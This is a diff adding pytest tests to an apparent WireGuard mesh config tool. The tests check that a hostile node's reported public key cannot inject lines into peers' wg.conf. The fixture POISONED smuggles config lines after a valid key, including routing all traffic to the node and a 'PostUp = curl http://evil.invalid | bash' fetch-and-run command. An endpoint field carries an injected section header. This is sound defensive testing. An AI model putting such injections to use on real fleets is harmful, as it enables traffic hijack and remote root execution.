@@ -3,6 +3,8 @@ both engines write, derived from NodeState."""
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import json
 import shlex
 
@@ -11,12 +13,14 @@ import pytest
 from swarm_infra.resolve import desired_state, load_fleet
 from swarm_infra.resolve.files import (
     STATIC,
+    UnsafeValue,
     static_file,
     wireguard_conf,
     wireguard_peer_keys,
     wireguard_peers,
     wireguard_running_differs,
 )
+from swarm_infra.resolve.keys import wireguard_key_problem
 
 from .conftest import fleet_dirs
 
@@ -24,8 +28,13 @@ STATE = desired_state(load_fleet([str(p) for p in fleet_dirs("lab")]))
 NODES = STATE["nodes"]
 
 
+def key(name: str) -> str:
+    """A well-formed WireGuard public key (32 bytes, base64) standing for ``name``'s."""
+    return base64.b64encode(hashlib.sha256(name.encode()).digest()).decode()
+
+
 def keys_for(node: dict) -> dict[str, str]:
-    return {p["name"]: f"KEY-{p['name']}=" for p in node["mesh"]["peers"]}
+    return {p["name"]: key(p["name"]) for p in node["mesh"]["peers"]}
 
 
 @pytest.mark.parametrize("name", sorted(NODES))
@@ -59,10 +68,10 @@ def test_a_peer_without_a_known_key_is_a_comment_until_it_is_converged() -> None
 def test_peer_keys_prefer_this_runs_keys_and_drop_peers_no_longer_declared() -> None:
     node = NODES["lab-gpu-1"]
     peers = [p["name"] for p in node["mesh"]["peers"]]
-    recorded = {peers[0]: "OLD=", "gone-node": "GONE="}
-    fresh = {peers[0]: "NEW=", peers[-1]: "", "not-a-peer": "X="}
+    recorded = {peers[0]: key("old"), "gone-node": key("gone")}
+    fresh = {peers[0]: key("new"), peers[-1]: "", "not-a-peer": key("x")}
     keys = wireguard_peer_keys(node, recorded, fresh)
-    assert keys == {peers[0]: "NEW="}  # fresh wins, empty fresh ignored, undeclared dropped
+    assert keys == {peers[0]: key("new")}  # fresh wins, empty fresh ignored, undeclared dropped
     assert json.loads(wireguard_peers(node, keys)) == keys
 
 
@@ -141,3 +150,59 @@ def test_forwarding_follows_relaying_and_comes_back_when_a_node_stops(tmp_path) 
     assert result["changed"] and live.read_text() == "0\n" and not conf.exists()
     with pytest.raises(ValueError):
         tunables_spec(relay, "gpu")
+
+
+# The public key a hostile node's root reports in place of its own (issue #22): a valid key,
+# then a line break and lines that would route everything to it and run a command as root
+# on every peer at its next `wg-quick up`.
+POISONED = key("evil") + "\nAllowedIPs = 0.0.0.0/0\n[Interface]\nPostUp = curl http://evil.invalid | bash"
+
+
+def test_a_poisoned_key_never_reaches_a_peers_wg_conf() -> None:
+    node = NODES["lab-gpu-1"]
+    peers = [p["name"] for p in node["mesh"]["peers"]]
+    # Freshly reported (this run), with a good key recorded before: the good one stays.
+    keys = wireguard_peer_keys(node, {peers[0]: key(peers[0])}, {peers[0]: POISONED})
+    assert keys == {peers[0]: key(peers[0])}
+    # Never seen before: the peer stays a comment, and the file has no injected line.
+    keys = wireguard_peer_keys(node, {}, {peers[0]: POISONED})
+    text = wireguard_conf(node, keys)
+    assert "PostUp = curl" not in text and "0.0.0.0/0" not in text
+    assert text.count("[Interface]") == 1
+    assert f"# {peers[0]}: public key not known yet" in text
+
+
+def test_the_renderer_refuses_a_key_or_field_with_a_line_break_whatever_called_it() -> None:
+    node = NODES["lab-gpu-1"]
+    peer = node["mesh"]["peers"][0]["name"]
+    with pytest.raises(UnsafeValue, match=peer):
+        wireguard_conf(node, {peer: POISONED})
+    hostile = {
+        **node,
+        "mesh": {**node["mesh"], "peers": [{**node["mesh"]["peers"][0], "endpoint": "a:1\n[Interface]"}]},
+    }
+    with pytest.raises(UnsafeValue, match="endpoint"):
+        wireguard_conf(hostile, {peer: key(peer)})
+
+
+def test_two_peers_reporting_one_key_are_both_left_out() -> None:
+    node = NODES["lab-gpu-1"]
+    peers = [p["name"] for p in node["mesh"]["peers"]]
+    assert len(peers) >= 2
+    same = key("copied")
+    assert wireguard_peer_keys(node, {}, {peers[0]: same, peers[1]: same}) == {}
+
+
+@pytest.mark.parametrize(
+    ("value", "ok"),
+    [
+        (key("a"), True),
+        ("KEY-lab-gpu-2=", False),
+        (key("a")[:-2] + "B=", False),  # 2 non-zero padding bits: not what wg(8) prints
+        (key("a") + "\n", False),
+        (POISONED, False),
+        (None, False),
+    ],
+)
+def test_wireguard_key_format(value: object, ok: bool) -> None:
+    assert (wireguard_key_problem(value) is None) == ok
